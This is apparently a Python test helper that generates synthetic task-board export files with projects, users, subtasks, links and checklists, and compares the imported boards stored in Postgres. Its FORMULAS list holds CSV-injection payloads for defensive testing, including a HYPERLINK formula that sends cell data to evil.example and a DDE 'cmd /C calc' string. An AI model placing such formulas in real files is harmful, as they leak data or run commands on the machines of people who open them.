"""Boards of many tasks: made up as a file, and compared as they are in two workspaces."""

import json
from collections.abc import Iterator, Mapping
from random import Random
from typing import Any, Final, NamedTuple

import psycopg
from psycopg.rows import dict_row

from domain.exchange import Begin, End, ExportedProject, ExportedUser, Line, line
from domain.task import EDITABLE

STATUSES: Final = (("todo", "open"), ("in_progress", "active"), ("done", "done"), ("cancelled", "cancelled"))
# What spreadsheets would run (OWASP, CSV Injection), and what is none and looks so.
FORMULAS: Final = (
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "'=1+1",
    "\uff1d1+1", "a,=1+1", "''", "'tis", 'say "no"; =now()', "plain | =pipe",
)  # fmt: skip


class Names(NamedTuple):
    """Who and what is in a workspace: ids by e-mail address, and by key."""

    workspace_id: str
    users: Mapping[str, str]
    projects: Mapping[str, str]


def made_up(count: int, names: Names, seed: str) -> Iterator[str]:
    """The lines of a file: projects, people, assignees, trees, links, tags, checklists, every status; formulas too."""
    random = Random(seed)
    users, projects = sorted(names.users.items()), sorted(names.projects.items())
    begin = Begin(
        format=1, position=1, epoch="made up", workspace_id=names.workspace_id, exported_at="now", tasks=count
    )
    yield line(Line(export=begin))
    for key, id_ in projects:
        yield line(Line(project=ExportedProject(id=id_, key=key, name=key)))
    for email, id_ in users:
        yield line(Line(user=ExportedUser(id=id_, email=email, display_name=email)))
    parents: dict[str | None, list[str]] = {}
    room: dict[str, int] = {}
    depths: dict[str, int] = {}
    for n in range(count):
        own = f"00000000-0000-4000-8000-{n:012x}"
        project_id = random.choice([None, *[id_ for _, id_ in projects]])
        status, category = random.choices(STATUSES, (4, 3, 2, 1))[0]
        task: dict[str, Any] = {
            "id": own,
            "title": f"{random.choice(FORMULAS)} {n}" if n % 10 == 0 else f"Task {n} of {count}",
            "description": f"What is to be done in {n}.\n=1+{n}" * random.randint(0, 8),
            "status": status,
            "category": category,
            "priority": random.choice(["low", "normal", "high", "urgent"]),
            **_dates(n),
            "tags": random.sample(["ops", "q4", "=tag", "a;b", "urgent!"], random.randint(0, 3)),
            "estimate_minutes": random.choice([None, 30, 90]),
            "assignee": random.choice([None, {"type": "user", "id": random.choice(users)[1]}]),
            "project_id": project_id,
        }
        above = parents.setdefault(project_id, [])
        if above and n % 4 == 0:
            parent = above[random.randrange(len(above))]
            if room[parent] < 90 and depths[parent] < 7:
                room[parent] += 1
                task["parent_id"] = parent
                depths[own] = depths[parent] + 1
        if category in ("open", "active"):
            above.append(own)
            room[own] = 0
            depths.setdefault(own, 1)
            del above[:-200]
        if n and n % 5 == 0:
            other = f"00000000-0000-4000-8000-{random.randrange(max(0, n - 500), n):012x}"
            task["links"] = [{"type": random.choice(["blocked_by", "relates"]), "task_id": other, "closed": False}]
        yield json.dumps({"task": task}) + "\n"
        if n % 50 == 0:
            items = [{"text": f"item {i} of {n}", "checked": i % 2 == 0} for i in range(3)]
            yield json.dumps({"checklist": {"task_id": own, "items": items}}) + "\n"
    yield line(Line(end=End(tasks=count, position=1)))


def _dates(n: int) -> dict[str, str | None]:
    """A moment, a day somewhere, or nothing."""
    day = f"2027-{1 + n % 12:02}-{1 + n % 28:02}"
    if n % 3 == 0:
        return {"due_on": day, "due_zone": "Europe/Berlin"} if n % 2 else {"due_at": None}
    return {"start_at": f"{day}T08:00:00.000000Z", "due_at": f"{day}T17:00:00.000000Z"}


def board(url: str, names: Names) -> dict[str, dict[str, Any]]:
    """What a board shows, by what the file called its tasks: everything but ids, keys, positions and times.

    Raises `AssertionError` where one task of the file is there twice.
    """
    people = {id_: email for email, id_ in names.users.items()}
    keys = {id_: key for key, id_ in names.projects.items()}
    found: dict[str, dict[str, Any]] = {}
    with psycopg.connect(url, row_factory=dict_row) as connection:
        own = {row["id"]: row["own"] for row in connection.execute(_ORIGINS, (names.workspace_id,))}
        assert len(set(own.values())) == len(own), "a task of the file is there twice"
        lists = {row["task_id"]: row["items"] for row in connection.execute(_CHECKLISTS, (names.workspace_id,))}
        with connection.cursor("tasks") as cursor:
            for row in cursor.execute(_TASKS, (names.workspace_id,)):
                task = row["document"]
                if task["id"] not in own:
                    continue
                assignee = task["assignee"]
                found[own[task["id"]]] = {
                    **{name: task[name] for name in (*EDITABLE, "status", "category")},
                    "assignee": None if assignee is None else people[assignee["id"]],
                    "project": keys.get(task["project_id"]),
                    "keyed": task["key"] is not None,
                    "parent": own.get(task["parent_id"]),
                    "subtasks": sorted((own[part["id"]], part["closed"]) for part in task["subtasks"]),
                    "links": sorted((part["type"], own[part["task_id"]], part["closed"]) for part in task["links"]),
                    "completed": task["completed_at"] is not None,
                    "checklist": lists.get(task["id"]),
                }
    return found


_TASKS: Final = """
    SELECT task_document(t) AS document FROM tasks t
    JOIN checkpoints c ON c.workspace_id = t.workspace_id AND c.build = t.build AND c.projection = 'tasks' AND c.live
    WHERE t.workspace_id = %s
"""
_ORIGINS: Final = """
    SELECT stream_id::text AS id, data->'imported'->>'id' AS own FROM events
    WHERE workspace_id = %s AND name = 'task.created' AND data->'imported'->>'id' IS NOT NULL
"""
_CHECKLISTS: Final = """
    SELECT a.data->>'task_id' AS task_id, json_agg(json_build_array(a.data->>'text', (
               SELECT true FROM events x WHERE x.workspace_id = a.workspace_id AND x.stream_id = a.stream_id
               AND x.name = 'checklist.item_checked' AND x.data->>'item_id' = a.data->>'item_id'))
               ORDER BY a.version) AS items
    FROM events a WHERE a.workspace_id = %s AND a.name = 'checklist.item_added' GROUP BY 1
"""
